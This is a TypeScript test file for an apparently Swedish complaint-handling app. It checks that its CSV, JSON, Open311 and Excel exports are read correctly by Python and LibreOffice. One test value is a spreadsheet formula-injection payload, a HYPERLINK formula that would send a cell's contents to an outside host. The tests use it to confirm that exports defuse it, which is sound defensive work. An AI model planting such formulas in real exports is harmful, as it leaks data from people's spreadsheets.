/** Every form of export, read by programs that are not ours. */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test, vi } from 'vitest';
import { type ExportFile, filesOf } from '../../shared/exports/files.ts';
import type { Material, Recipient } from '../../shared/exports/material.ts';
import { openWorkbook } from '../../shared/imports/xlsx/workbook.ts';
import type { MatterEvent } from '../../shared/matters/events.ts';
import type { ExportForm } from '../../shared/text/export-forms.ts';
import { deflate, effects } from '../imports/effects.ts';

vi.setConfig({ testTimeout: 120_000 });

const has = (program: string): boolean => spawnSync(program, ['--version'], { stdio: 'ignore' }).status === 0;
const hasOffice = has('soffice');
const hasPython = has('python3');

const folder = mkdtempSync(join(tmpdir(), 'gensvar-readers-'));
afterAll(() => rmSync(folder, { recursive: true }));

const HOSTILE = '=HYPERLINK("https://example.se/?"&A2);"citat", rad\ntvå; åäö 😀';

function eventsOf(count: number): readonly MatterEvent[] {
  return Array.from({ length: count }, (_, index) => {
    const matter = `SKÄ-2026-${String(index + 1).padStart(4, '0')}`;
    const base: Omit<MatterEvent, 'sequence' | 'at' | 'fact'> = {
      ...{ matter, enteredAt: '2026-02-03T08:00:00.000Z', by: 'anna.berg@example.se', source: 'sidebar' },
      command: `01KP34H880${String(index).padStart(16, '0')}`,
    };
    const received: MatterEvent = {
      ...base,
      ...{ sequence: index * 2 + 1, at: '2026-02-03' },
      fact: {
        ...{ type: 'matter_received', kind: 'comment', channel: 'mail', place: 'Sätra' },
        title: index === 0 ? HOSTILE : `Lampan på plats ${index} lyser inte`,
        text: `${HOSTILE} ${index}: lampan har varit trasig i tre veckor, och det är mörkt på vägen hem.`,
      },
    };
    const about = { referral: `${matter}/R1`, organisation: 'trafikkontoret' } as const;
    const sent: MatterEvent = {
      ...base,
      ...{ sequence: index * 2 + 2, at: '2026-02-04' },
      fact: { type: 'referral_sent', ...about, question: 'När lagas den?', due: '2026-03-04' },
    };
    return [received, sent];
  }).flat();
}

const materialOf = (count: number): Material => ({
  ...{ language: 'sv', district: 'Skärholmen', today: '2026-04-13', events: eventsOf(count), dialogues: [] },
  organisationName: (id) => (id === 'trafikkontoret' ? 'Trafikkontoret' : id),
  areaOf: (place) => place,
});

const made = (form: ExportForm, recipient: Recipient = 'colleague', count = 7) =>
  filesOf(form, materialOf(count), { recipient }, deflate);

function write({ name, content }: ExportFile): string {
  const path = join(folder, name);
  writeFileSync(path, content);
  return path;
}

const python = (script: readonly string[], ...paths: readonly string[]): unknown =>
  JSON.parse(execFileSync('python3', ['-c', script.join('\n'), ...paths], { encoding: 'utf8' }));

describe.skipIf(!hasPython)('read by Python (needs python3)', () => {
  test('a csv has its rows and words, and no cell that a sheet would count', async () => {
    const [file] = await made('csv');
    if (!file) throw new Error('no file');
    const rows = python(
      [
        'import csv, json, sys',
        'print(json.dumps(list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline=""), delimiter=";"))))',
      ],
      write(file),
    ) as string[][];
    expect(rows).toHaveLength(8);
    expect(new Set(rows.map((row) => row.length)).size).toBe(1);
    expect(rows[1]?.[2]).toBe(`'${HOSTILE}`);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  test('json, event lines and Open311 are what they say they are', async () => {
    const [json] = await made('json');
    const [lines] = await made('ndjson');
    const [services, requests, xml] = await made('open311');
    if (!json || !lines || !services || !requests || !xml) throw new Error('no file');
    const read = python(
      [
        'import json, sys, datetime, xml.etree.ElementTree as E',
        'm = json.load(open(sys.argv[1], encoding="utf-8"))',
        'n = [json.loads(l) for l in open(sys.argv[2], encoding="utf-8")]',
        's = json.load(open(sys.argv[3], encoding="utf-8")); r = json.load(open(sys.argv[4], encoding="utf-8"))',
        'x = E.parse(sys.argv[5]).getroot()',
        'for each in r: datetime.datetime.fromisoformat(each["requested_datetime"].replace("Z", "+00:00"))',
        'print(json.dumps({"matters": len(m["matters"]), "lines": len(n), "codes": [i["service_code"] for i in s],',
        ' "service": sorted(s[0]), "types": sorted({i["type"] for i in s}), "request": sorted(r[0]),',
        ' "used": sorted({i["service_code"] for i in r}), "status": sorted({i["status"] for i in r}),',
        ' "root": x.tag, "elements": len(x.findall("request")), "words": x.find("request/description").text}))',
      ],
      ...[json, lines, services, requests, xml].map(write),
    ) as Record<string, unknown>;
    expect(read).toMatchObject({
      ...{ matters: 7, lines: 14, types: ['batch'], status: ['open'], root: 'service_requests', elements: 7 },
      // GeoReport v2, GET service list and GET service requests.
      service: ['description', 'group', 'keywords', 'metadata', 'service_code', 'service_name', 'type'],
      words: expect.stringContaining('=HYPERLINK("https://example.se/?"&A2)'),
    });
    expect(read.request).toEqual(
      expect.arrayContaining([
        ...['service_request_id', 'status', 'status_notes', 'service_name', 'service_code', 'description'],
        ...['agency_responsible', 'requested_datetime', 'updated_datetime', 'address'],
      ]),
    );
    expect(read.codes).toEqual(expect.arrayContaining(read.used as string[]));
  });

  test('open data has a dictionary that names every column, and says nothing about anybody', async () => {
    const [table, dictionary] = await made('open-data', 'public', 9);
    if (!table || !dictionary) throw new Error('no file');
    const read = python(
      [
        'import csv, json, sys',
        'rows = [list(csv.reader(open(p, encoding="utf-8-sig", newline=""), delimiter=";")) for p in sys.argv[1:]]',
        'print(json.dumps(rows))',
      ],
      write(table),
      write(dictionary),
    ) as string[][][];
    expect(read[0]?.slice(1)).toEqual([['2026-K1', 'Sätra', 'Synpunkt', '9', '', '']]);
    expect(read[1]?.slice(1).map((row) => row[1])).toEqual(read[0]?.[0]);
  });
});

describe.skipIf(!hasOffice)('read by LibreOffice (needs soffice)', () => {
  const convert = (path: string, to: string): void => {
    const profile = `-env:UserInstallation=file://${folder}/profile`;
    execFileSync(
      'soffice',
      [profile, '--headless', '--convert-to', to, '--outdir', join(folder, 'out'), path],
      {
        stdio: 'ignore',
        timeout: 110_000,
      },
    );
  };

  test('an Excel file opens as it is: sheets, days, filters and words', async () => {
    const [file] = await made('xlsx');
    if (!file) throw new Error('no file');
    const path = write(file);
    // What LibreOffice has read, written by itself and read again.
    convert(path, 'xlsx');
    const bytes = Uint8Array.from(readFileSync(join(folder, 'out', file.name)));
    const workbook = await openWorkbook(bytes, effects);
    expect(workbook.sheets.map(({ name }) => name)).toEqual(['Ärenden', 'Remisser', 'Kolumner']);
    const [matters] = workbook.sheets;
    if (!matters) throw new Error('no sheet');
    const { rows, formulas } = await workbook.read(matters);
    expect(formulas).toBe(0);
    expect(rows).toHaveLength(8);
    expect(rows[1]?.slice(1, 3)).toEqual(['2026-02-03', HOSTILE]);
    const seen = execFileSync(
      'python3',
      [
        '-c',
        [
          'import sys, zipfile, re',
          's = zipfile.ZipFile(sys.argv[1]).read("xl/worksheets/sheet1.xml").decode("utf-8")',
          'print(re.search(r"<autoFilter ref=\\"(.*?)\\"", s).group(1), len(re.findall(r"<col ", s)) > 3)',
        ].join('\n'),
        join(folder, 'out', file.name),
      ],
      { encoding: 'utf8' },
    );
    expect(seen.trim()).toBe('A1:Z8 True');
  });
});

test('a packed workbook is a small part of what it was', async () => {
  const size = async (pack: typeof deflate) => {
    const [file] = await filesOf('xlsx', materialOf(500), { recipient: 'colleague' }, pack);
    return file?.content.length ?? 0;
  };
  const packed = await size(deflate);
  const stored = await size(async (bytes) => bytes);
  expect(packed).toBeLessThan(stored / 8);
});
